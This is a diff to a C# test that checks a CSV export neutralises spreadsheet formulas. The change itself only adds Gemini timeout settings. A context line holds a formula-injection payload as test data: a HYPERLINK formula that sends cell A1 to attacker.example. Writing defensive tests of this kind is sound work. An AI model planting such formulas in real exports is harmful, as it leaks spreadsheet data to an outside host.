@@ -23,7 +23,7 @@ public sealed class ExportFormulaInjectionTests(AzuriteFixture azurite) : IDispo
     public async Task Export_neutralises_formulas_in_every_text_column()
     {
         gemini.Reply(GeminiReply.Intent("High", 0.9, "=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"Click\")"));
-        await using var app = await TestApp.StartAsync(azurite, gemini.Settings());
+        await using var app = await TestApp.StartAsync(azurite, gemini.Settings(("Gemini:TimeoutSeconds", "30"), ("Gemini:TotalTimeoutSeconds", "60")));
         await app.CreateOfferIdAsync();
         var upload = (await app.UploadAsync(HostileCsv())).AssertStatus(StatusCodes.Status200OK).Json();
         Assert.Equal(Prefixes.Length * LeadColumns.Length, upload.GetProperty("inserted").GetInt32());
